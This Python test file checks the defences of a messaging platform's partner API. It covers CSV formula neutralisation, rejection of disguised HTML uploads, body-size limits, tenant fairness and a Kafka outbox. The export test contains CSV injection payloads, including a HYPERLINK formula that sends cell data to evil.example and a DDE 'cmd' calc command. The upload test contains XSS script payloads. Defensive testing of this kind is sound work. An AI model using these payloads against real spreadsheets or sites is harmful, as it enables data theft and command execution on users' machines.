"""Issue #11, items 6, 7, 9, 10 and 15: each test makes the attack against the real service and shows it fails.

Spreadsheet bombs and import pools (6), the inbox reply waiting for Kafka inside a transaction (7), bodies and
fields read whole before their limit (9), one tenant starving the others (10), served files a browser would
run and CSV cells a spreadsheet would evaluate (15).
"""

from __future__ import annotations

import asyncio
import csv
import io
import statistics
import struct
import time
import tracemalloc
from collections.abc import AsyncIterator
from typing import Any

import aiohttp
import asyncpg
import orjson
import pytest

from qlara_events.api.shared import PUBLISHER
from qlara_events.config import DEV_SECRETS
from qlara_events.errors import Unavailable
from qlara_events.store import accounts

from support.isolated import api_process, isolated_database
from support.live import Account, LiveServer, read_topic, serve, uid, wait_until
from support.settings import make_settings
from unit.providers.signing import whatsapp_signature

P = "/partner-gateway/v1"


async def call(http: aiohttp.ClientSession, server: LiveServer, account: Account, method: str, path: str,
               body: Any = None) -> tuple[int, Any]:
    """A JSON request with the account's key; (status, JSON body)."""
    async with http.request(method, f"{server.url}{P}{path}", json=body, headers=account.headers) as r:
        return r.status, await r.json()


async def upload_media(http: aiohttp.ClientSession, server: LiveServer, account: Account, data: bytes,
                       filename: str, **fields: str) -> tuple[int, dict[str, Any]]:
    """POST /media with ``data`` as the file part (declared application/octet-stream) and text ``fields``."""
    form = aiohttp.FormData()
    for k, v in fields.items():
        form.add_field(k, v)
    form.add_field("file", data, filename=filename, content_type="application/octet-stream")
    async with http.post(f"{server.url}{P}/media", data=form, headers=account.headers) as r:
        return r.status, await r.json()


def local(server: LiveServer, url: str) -> str:
    """A signed URL (built on the public base URL) pointed at the test server."""
    return url.replace(server.settings.base_url, server.url)


async def finished_export(http: aiohttp.ClientSession, server: LiveServer, account: Account,
                          export_id: int) -> dict[str, Any]:
    """The export job once it is COMPLETED or FAILED."""
    async def done() -> dict[str, Any] | None:
        _, jobs = await call(http, server, account, "GET", "/exports?limit=100")
        job: dict[str, Any] = {j["id"]: j for j in jobs}[export_id]
        return job if job["status"] in ("COMPLETED", "FAILED") else None

    return await wait_until(done, timeout=120, what=f"export {export_id}")


MiB = 1024 * 1024
BOUNDARY = "qlara-security-limits"


async def huge_field(name: str, mib: int, then: bytes = b"") -> AsyncIterator[bytes]:
    """A multipart body (sent chunked, no Content-Length) whose text field ``name`` is ``mib`` MiB of 'a'.

    One 1 MiB chunk is yielded again and again, so the client allocates almost nothing while it sends.
    """
    yield (f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n").encode()
    chunk = b"a" * MiB
    for _ in range(mib):
        yield chunk
    yield f"\r\n--{BOUNDARY}\r\n".encode() + then + f"--{BOUNDARY}--\r\n".encode()


async def huge_json(mib: int) -> AsyncIterator[bytes]:
    """A JSON object (sent chunked) with one string member of ``mib`` MiB."""
    yield b'{"url": "https://example.com/hook", "pad": "'
    chunk = b"a" * MiB
    for _ in range(mib):
        yield chunk
    yield b'"}'


async def traced(coro: Any) -> tuple[Any, int]:
    """Await ``coro`` with tracemalloc on (the server runs in this process): its result and the peak bytes."""
    tracemalloc.start()
    try:
        result = await coro
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return result, peak


def tiny_png() -> bytes:
    """The first bytes of a PNG (signature and IHDR): enough for the type sniffer."""
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)


class TestServedFiles:
    """Item 15: a served file is never run by a browser; an export cell is never evaluated by a spreadsheet."""

    async def test_media_download_forbids_sniffing_and_runs_sandboxed(self, http, server, account) -> None:
        """A signed media download says nosniff and carries a sandboxing Content-Security-Policy."""
        status, item = await upload_media(http, server, account, tiny_png(), "a.png")
        assert status == 201, item
        async with http.get(local(server, item["url"])) as r:
            assert r.status == 200
            assert r.headers.get("X-Content-Type-Options") == "nosniff"
            csp = r.headers.get("Content-Security-Policy", "")
            assert "sandbox" in csp and "default-src 'none'" in csp, csp

    async def test_html_with_ftyp_at_byte_4_is_not_an_mp4(self, http, server, account) -> None:
        """An HTML page carrying ``ftyp`` at bytes 4 to 8 is refused, not stored and served as video/mp4."""
        page = b"<htmftyp><script>alert(document.domain)</script></html>" + b" " * 64
        status, body = await upload_media(http, server, account, page, "clip.mp4")
        assert status == 400 and "unsupported file type" in body["message"], body
        # The same with a plausible box size but a major brand that is no MP4 brand.
        forged = struct.pack(">I", 24) + b"ftyp<scr" + b"\x00" * 12 + b"<script>alert(1)</script>"
        status, body = await upload_media(http, server, account, forged, "clip.mp4")
        assert status == 400, body
        real = struct.pack(">I", 24) + b"ftypisom" + b"\x00\x00\x02\x00isomiso2" + b"\x00" * 200
        status, body = await upload_media(http, server, account, real, "clip.mp4")
        assert status == 201 and body["mimeType"] == "video/mp4", body

    async def test_contacts_export_neutralises_formulas(self, http, server, account) -> None:
        """Cells starting with = + - @ (or tab/CR) get a leading quote in the CSV; plain numbers stay as they are."""
        hostile = {"firstName": '=HYPERLINK("https://evil.example/?x="&A1,"open")', "lastName": "@SUM(1+1)*cmd|' /C calc'!A0",
                   "email": f"+{uid()}@evil.example", "phoneNumber": "+393331234567"}
        status, created = await call(http, server, account, "POST", "/contacts", hostile)
        assert status == 201, created
        status, other = await call(http, server, account, "POST", "/contacts",
                                   {"firstName": "-2+3", "lastName": "\tTAB", "phoneNumber": "+393331234568"})
        assert status == 201, other
        status, job = await call(http, server, account, "POST", "/exports/contacts", {})
        assert status == 202, job
        done = await finished_export(http, server, account, job["id"])
        assert done["status"] == "COMPLETED", done
        status, link = await call(http, server, account, "GET", f"/exports/{job['id']}")
        assert status == 200, link
        async with http.get(local(server, link["url"])) as r:
            rows = {row["id"]: row for row in csv.DictReader(io.StringIO(await r.text()))}
            nosniff = r.headers.get("X-Content-Type-Options")
        first, second = rows[str(created["id"])], rows[str(other["id"])]
        assert first["firstName"] == "'" + hostile["firstName"]
        assert first["lastName"] == "'" + hostile["lastName"]
        assert first["email"] == "'" + hostile["email"]
        assert first["phoneNumber"] == "+393331234567", "a plain number is no formula: left as it is"
        assert second["firstName"] == "'-2+3" and second["lastName"] == "'\tTAB"
        assert nosniff == "nosniff"


class TestBodiesAreLimitedWhileRead:
    """Item 9: no body or field is read whole before its limit is checked."""

    @pytest.mark.parametrize(("path", "field"), [("/media", "name"), ("/contacts/upload", "fileName"),
                                                 ("/contacts/upload/vcard", "listId")])
    async def test_huge_multipart_text_field_is_refused_unbuffered(self, http, server, account, path: str,
                                                                   field: str) -> None:
        """A 48 MiB text field is a 400 and the server never holds it (peak traced memory far below 48 MiB)."""
        async def send() -> tuple[int, dict[str, Any]]:
            async with http.post(f"{server.url}{P}{path}", data=huge_field(field, 48),
                                 headers={**account.headers,
                                          "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}) as r:
                return r.status, await r.json()

        (status, body), peak = await traced(send())
        assert status == 400 and field in body["message"], body
        assert peak < 16 * MiB, f"peak traced memory {peak / MiB:.1f} MiB: the field was buffered"

    async def test_json_body_past_its_limit_is_413_unbuffered(self, http, server, account) -> None:
        """An 8 MiB JSON body (chunked, no Content-Length) to POST /webhooks/delivery-status is a 413, not read whole."""
        async def send() -> tuple[int, dict[str, Any]]:
            async with http.post(f"{server.url}{P}/webhooks/delivery-status", data=huge_json(8),
                                 headers={**account.headers, "Content-Type": "application/json"}) as r:
                return r.status, await r.json()

        (status, body), peak = await traced(send())
        assert status == 413 and body["status"] == 413 and "exceeds" in body["message"], body
        assert peak < 4 * MiB, f"peak traced memory {peak / MiB:.1f} MiB"

    async def test_contact_list_ids_are_capped(self, http, server, account) -> None:
        """A campaign naming 20,000 contact lists is a 400, not a draft whose every query carries them."""
        status, body = await call(http, server, account, "POST", "/campaigns", {
            "name": "lists", "sendingMode": "SMS", "destinationType": 1,
            "contactListIds": list(range(1, 20_001))})
        assert status == 400 and "contactListIds" in body["message"], body


async def many_contacts(db: Any, account: Account, n: int) -> None:
    """``n`` contacts in the account (written directly: they make its exports take a while, they are no attack)."""
    await db.execute("insert into contacts (account_id, phone_number, first_name, is_valid)"
                     " select $1, '+3933' || lpad(g::text, 8, '0'), 'Contact ' || g, true"
                     " from generate_series(1, $2) g", account.id, n)


class TestTenantsCannotStarveOthers:
    """Item 10: per-account caps on queued exports, page depth and media bytes; exports claimed fairly."""

    async def test_an_account_cannot_queue_unbounded_exports(self, http, server, db, account) -> None:
        """Past QLARA_EXPORT_MAX_PENDING_PER_ACCOUNT (5) queued or running exports, another is a 409."""
        await many_contacts(db, account, 50_000)
        statuses = []
        for _ in range(8):
            status, body = await call(http, server, account, "POST", "/exports/contacts", {})
            statuses.append(status)
            if status != 202:
                assert status == 409 and "exports queued or running" in body["message"], body
        assert 409 in statuses, statuses
        assert statuses.count(202) <= 7, statuses

    async def test_exports_are_claimed_fairly_across_accounts(self, http, server, db, account,
                                                              other_account) -> None:
        """An account queueing five large exports first does not make another account's one export wait for all
        five: it is claimed next (accounts take turns), so it finishes before at least three of them."""
        await many_contacts(db, account, 50_000)
        hog = []
        for _ in range(5):
            status, job = await call(http, server, account, "POST", "/exports/contacts", {})
            assert status == 202, job
            hog.append(job["id"])
        status, job = await call(http, server, other_account, "POST", "/exports/contacts", {})
        assert status == 202, job
        small = await finished_export(http, server, other_account, job["id"])
        done = [await finished_export(http, server, account, i) for i in hog]
        later = [d for d in done if d["completedAt"] > small["completedAt"]]
        assert len(later) >= 3, (small["completedAt"], [d["completedAt"] for d in done])

    @pytest.mark.parametrize("path", ["/contacts", "/media", "/exports", "/contacts/list"])
    async def test_page_depth_is_capped(self, http, server, account, path: str) -> None:
        """page=1,000,000 with limit=1000 (an offset of a billion rows) is a 400, not a scan."""
        async with http.get(f"{server.url}{P}{path}", params={"page": "1000000", "limit": "1000"},
                            headers=account.headers) as r:
            body = await r.json()
            assert r.status == 400 and "page * limit" in body["message"], body

    async def test_media_storage_quota(self, http, infra, db, account) -> None:
        """With a 4 KiB quota, uploads that fit are stored, the one that would pass it is a 413 and kept nowhere."""
        settings = make_settings(*infra, QLARA_MEDIA_QUOTA_BYTES="4096")
        async with serve(settings, ["api"]) as own:
            image = tiny_png() + b"\x00" * (1500 - len(tiny_png()))
            for _ in range(2):
                status, item = await upload_media(http, own, account, image, "a.png")
                assert status == 201, item
            status, body = await upload_media(http, own, account, image, "a.png")
            assert status == 413 and "quota" in body["message"], body
            status, items = await call(http, own, account, "GET", "/media?limit=100")
            assert status == 200 and len(items) == 2, items


async def whatsapp_conversation(http: aiohttp.ClientSession, server: LiveServer, db: Any,
                                account: Account) -> dict[str, Any]:
    """A WhatsApp conversation opened by a real inbound message (provider endpoint, Kafka, projector)."""
    number = "+1555" + str(int(uid()[:7], 16) % 10_000_000).zfill(7)
    contact = "+39333" + str(int(uid()[:7], 16) % 10_000_000).zfill(7)
    await db.execute("insert into sender_addresses (channel, address, account_id) values ('WHATSAPP', $1, $2)",
                     number, account.id)
    body = orjson.dumps({"object": "whatsapp_business_account", "entry": [{"id": "WABA", "changes": [{
        "field": "messages", "value": {
            "messaging_product": "whatsapp", "metadata": {"display_phone_number": number[1:], "phone_number_id": "1"},
            "contacts": [{"profile": {"name": "Mario"}, "wa_id": contact[1:]}],
            "messages": [{"from": contact[1:], "id": uid("wamid."), "timestamp": str(int(time.time())), "type": "text", "text": {"body": "Ciao"}}]}}]}]})
    sig = whatsapp_signature(DEV_SECRETS["QLARA_WHATSAPP_APP_SECRET"], body)
    async with http.post(f"{server.url}/ingest/v1/providers/whatsapp", data=body,
                         headers={"X-Hub-Signature-256": sig, "Content-Type": "application/json"}) as r:
        assert r.status == 200, await r.text()

    async def opened() -> dict[str, Any] | None:
        _, convs = await call(http, server, account, "GET", "/inbox/conversations")
        return next((c for c in convs if c["contact"] == contact), None)

    return await wait_until(opened, what="conversation opened")


class TestReplyOutbox:
    """Item 7: an inbox reply never holds a transaction while Kafka is slow, and is not lost when Kafka fails."""

    async def test_stalled_kafka_holds_no_transaction_and_loses_no_reply(self, http, server, db, account,
                                                                          monkeypatch) -> None:
        """While the reply's produce hangs, no transaction of it is open; when the produce then fails the reply is
        still accepted (202) and its send request reaches qlara.send-requests through the outbox relay."""
        conv = await whatsapp_conversation(http, server, db, account)
        assert server.app is not None
        entered, release = asyncio.Event(), asyncio.Event()

        async def stalled(topic: str, key: str, value: object) -> None:
            entered.set()
            await release.wait()
            raise Unavailable("Kafka did not acknowledge the events; retry later")

        monkeypatch.setattr(server.app[PUBLISHER], "produce_json", stalled)
        text = uid("reply-")
        reply = asyncio.ensure_future(call(http, server, account, "POST", "/inbox/conversations/reply",
                                           {"chatId": conv["chatId"], "text": text}))
        await asyncio.wait_for(entered.wait(), 30)
        open_transactions = await db.fetch(
            "select pid, state, query from pg_stat_activity where state like 'idle in transaction%'"
            " and query ilike '%conversation%'")
        release.set()
        status, body = await reply
        monkeypatch.undo()
        assert not open_transactions, f"a transaction waited for Kafka: {open_transactions}"
        assert status == 202 and body["status"] == "ACCEPTED", body
        sent = await read_topic(server.settings, server.settings.topics.send_requests,
                                lambda v: v.get("messageId") == body["messageId"], timeout=60)
        assert sent and sent[0]["text"] == text and sent[0]["origin"] == "inbox"


class TestDestinationsOffTheLoop:
    """Item 9: a campaign's 100,000 destinations are checked with libphonenumber in a worker thread. Before,
    the check ran on the event loop: about 3-7 s during which the api process answered nothing."""

    @pytest.mark.slow
    async def test_healthz_stays_fast_while_100k_destinations_are_checked(self, http: aiohttp.ClientSession,
                                                                          infra: tuple[str, str]) -> None:
        async with isolated_database(infra[1], "destloop") as url:
            conn = await asyncpg.connect(url)
            try:
                _, key = await accounts.create_account(conn, "destinations-off-the-loop")
            finally:
                await conn.close()
            async with api_process(http, kafka=infra[0], database_url=url) as api:
                base = f"http://127.0.0.1:{api.port}"
                body = {"name": "big", "sendingMode": "SMS", "destinationType": 2,
                        "destinations": [f"+39347{1_000_000 + i:07d}" for i in range(100_000)]}
                latencies: list[float] = []
                done = asyncio.Event()

                async def probe() -> None:
                    # A session of its own: the campaign POST's connection is busy.
                    async with aiohttp.ClientSession() as own:
                        while not done.is_set():
                            started = time.perf_counter()
                            async with own.get(f"{base}/healthz") as r:
                                assert r.status == 200
                            latencies.append(time.perf_counter() - started)
                            await asyncio.sleep(0.05)  # pacing the probe, not synchronisation

                prober = asyncio.create_task(probe())
                try:
                    async with http.post(f"{base}{P}/campaigns", data=io.BytesIO(orjson.dumps(body)),
                                         headers={"X-API-Key": key, "Content-Type": "application/json"},
                                         timeout=aiohttp.ClientTimeout(total=120)) as r:
                        assert r.status == 201, await r.text()
                finally:
                    done.set()
                    await prober
                assert len(latencies) >= 10, latencies  # the check took long enough to be probed many times
                assert statistics.median(latencies) < 0.1, (statistics.median(latencies), max(latencies))
